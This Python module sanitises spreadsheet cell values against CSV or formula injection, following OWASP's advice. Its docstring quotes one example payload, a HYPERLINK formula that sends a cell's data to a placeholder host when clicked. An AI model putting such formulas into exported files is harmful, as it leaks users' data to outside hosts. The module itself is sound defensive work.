"""The value of one spreadsheet cell, for every csv and xlsx the tool writes.

Text from the data reaches Excel and LibreOffice in task lists, the matrix and csv output. A
cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read there as a
formula (``=HYPERLINK("http://x/?d="&A1,"详情")`` sends the sheet away when clicked), so such
text is stored as text with a leading ``'``, as OWASP advises (CSV injection). Numbers stay
numbers, negative ones too, and control characters (which openpyxl refuses) become visible
symbols. ``to_csv`` and ``output.xlsx`` both call ``spreadsheet_value``; nothing else writes cells.
"""

from __future__ import annotations

import re
from typing import Any

from safety_plan.output.text import as_text, printable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(text: str) -> str:
    """``text`` that no spreadsheet reads as a formula: prefixed with ``'`` when it would be.

    A plain number written as text (``-3``, ``+1.5``) is a number, not a formula, and stays."""
    if text.startswith(FORMULA_STARTS) and _NUMBER.fullmatch(text) is None:
        return "'" + text
    return text


def spreadsheet_value(value: Any) -> str | int | float | None:
    """What to store in a cell for ``value``: ``None`` stays empty, numbers stay numbers, a
    yes/no becomes 是/否, a list is joined with 、, and text is made printable and inert."""
    if value is None:
        return None
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    text = as_text(value)
    # Control characters first: a leading CR becomes ␍, which no spreadsheet evaluates.
    return neutralise(printable(text))
